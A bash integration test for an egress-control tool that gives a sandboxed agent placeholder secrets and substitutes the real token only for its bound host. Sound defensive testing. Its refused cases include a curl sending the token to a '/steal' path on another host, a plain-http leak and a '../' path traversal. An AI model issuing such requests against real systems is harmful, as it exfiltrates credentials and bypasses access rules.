#!/usr/bin/env bash
# Secrets bound to hosts, from inside `tokfence run` (docs/EGRESS.md, "Inspected hosts"): the agent
# holds only the placeholder tokfence-secret:bot (run --secret BOT_TOKEN=bot); curl in the sandbox
# trusts tokfence's local CA through the variables run sets; the TLS fake for allowed.test (reached
# through [egress.resolve], its certificate trusted through [egress] extra_ca_file) receives the real
# secret in the header and in the path. A host with [egress.domains] rules is inspected too: its
# methods and paths are enforced. The secret is in no output, log row, daemon log or database.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/egress_lib.bash"
EGRESS_EXTRA_CONFIG=(
  '[egress.domains."later.test"]' 'methods = ["GET"]' 'deny_paths = ["/private"]'
  '[egress]' "extra_ca_file = \"$WORK/tls/ca.pem\""
)
egress_run_setup
BOT="bot$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n')"
tf_in "$BOT" vault add bot - --host allowed.test --in path
expect_eq "$TF_RC" 0 "vault add bot --host allowed.test --in path: $TF_ERR"
wait_until "grep -q 'bound secret' '$TOKFENCE_HOME/daemon.log'" 20

in_run() {  # a shell command in the sandbox, with the placeholder in $BOT_TOKEN
  tf run codex --command /bin/sh --workdir "$PROJECT" --allow allowed.test --allow later.test \
    --secret BOT_TOKEN=bot -- -c "$1"
}

log "the agent holds the placeholder; the bound host receives the secret, in the path or in a credential header"
in_run 'echo "token=$BOT_TOKEN"; curl -sS --max-time 20 "https://allowed.test/bot$BOT_TOKEN/getMe"; curl -sS --max-time 20 -H "Authorization: Bot $BOT_TOKEN" https://allowed.test/getMe'
expect_eq "$TF_RC" 0 "curl to the bound host: $TF_ERR"
expect_contains "$TF_OUT" "token=tokfence-secret:bot" "the placeholder in the agent's environment"
expect_contains "$TF_OUT" "hello from allowed.test over tls" "the bound host's answer"
grep -q "^GET /bot$BOT/getMe HTTP/1.1" "$TLS_LOG.heads" || die "the bound host did not get the secret in its path"
grep -qi "^Authorization: Bot $BOT\$" "$TLS_LOG.heads" || die "the bound host did not get the secret in its header"
grep -q "tokfence-secret" "$TLS_LOG.heads" && die "a placeholder reached the bound host unreplaced"

log "a POST with a body goes through whole"
in_run 'head -c 100000 /dev/zero | curl -sS --max-time 20 -X POST --data-binary @- -H "X-Key: $BOT_TOKEN" https://allowed.test/upload'
expect_eq "$TF_RC" 0 "POST to the bound host: $TF_ERR"
expect_contains "$TF_OUT" "posted 100000 bytes to allowed.test"

log "the same placeholder to another allowed (inspected) host is refused; that host sees nothing"
: >"$TLS_LOG.heads"
in_run 'curl -sS -v --max-time 20 -H "Authorization: Bot $BOT_TOKEN" https://later.test/steal 2>&1'
expect_egress_refusal "$TF_OUT" "placeholder to later.test"
expect_contains "$TF_OUT" "secret-not-bound"
[[ -s $TLS_LOG.heads ]] && die "later.test received a request carrying the placeholder: $(cat "$TLS_LOG.heads")"

log "and over plain http"
in_run 'curl -sS -v --max-time 20 "http://later.test/?t=$BOT_TOKEN" 2>&1'
expect_contains "$TF_OUT" "secret-over-plain-http" "placeholder over plain http"

log "later.test's [egress.domains] rules: GET allowed, POST and /private refused"
in_run 'curl -sS --max-time 20 https://later.test/public'
expect_eq "$TF_RC" 0 "GET https://later.test/public: $TF_ERR"
expect_contains "$TF_OUT" "hello from later.test over tls"
in_run 'curl -sS -v --max-time 20 -X POST -d x=1 https://later.test/public 2>&1'
expect_egress_refusal "$TF_OUT" "POST to later.test"
expect_contains "$TF_OUT" "X-Tokfence-Egress: methods"
in_run 'curl -sS -v --max-time 20 https://later.test/private/x 2>&1'
expect_contains "$TF_OUT" "X-Tokfence-Egress: deny_paths:/private"
in_run 'curl -sS -v --max-time 20 --path-as-is https://later.test/public/../private/x 2>&1'
expect_contains "$TF_OUT" "X-Tokfence-Egress: ambiguous-path"

log "the run's socket carries its grant; an unfenced run is given no secret"
grant_of_run() {  # RUN FLAGS...: the secrets of the codex socket while the run is up
  "$TOKFENCE_BIN" run codex --command /bin/sleep --workdir "$PROJECT" "$@" -- 5 >"$WORK/out/grant.out" 2>"$WORK/out/grant.err" &
  local pid=$!
  wait_until "'$TOKFENCE_BIN' egress list --json 2>/dev/null | jq -e '.listeners[] | select(.caller == \"codex\")' >/dev/null" 20
  "$TOKFENCE_BIN" egress list --json | jq -c '[.listeners[] | select(.caller == "codex") | .secrets]'
  wait "$pid" || true
}
expect_eq "$(grant_of_run --allow allowed.test --secret BOT_TOKEN=bot)" '[["bot"]]' "the fenced run's grant"
expect_eq "$(grant_of_run --no-sandbox --secret BOT_TOKEN=bot)" '[[]]' "the unfenced run's grant"
expect_contains "$(cat "$WORK/out/grant.err")" "no secret is substituted for an unfenced run"

log "the log rows: kind inspect, the refusals with their rules; no secret anywhere"
tf_ok log --egress --json -n 50
rows=$TF_OUT
expect_eq "$(jq '[.[] | select(.kind == "inspect" and .host == "allowed.test" and .decision == "allowed")] | length >= 2' <<<"$rows")" true "allowed inspect rows"
for rule in secret-not-bound secret-over-plain-http methods deny_paths:/private ambiguous-path; do
  expect_eq "$(jq --arg r "$rule" '[.[] | select(.decision == "denied" and .rule == $r)] | length >= 1' <<<"$rows")" true "a denied row with rule $rule"
done
# Only the bound host's own records of what it received may hold the secret.
hits=$(grep -rlaF -- "$BOT" "$WORK" 2>/dev/null | grep -v -E '/vault\.enc(\.|$)|/tls-requests\.log(\.heads)?$' || true)
[[ -z $hits ]] || die "the bound secret is in: $hits"
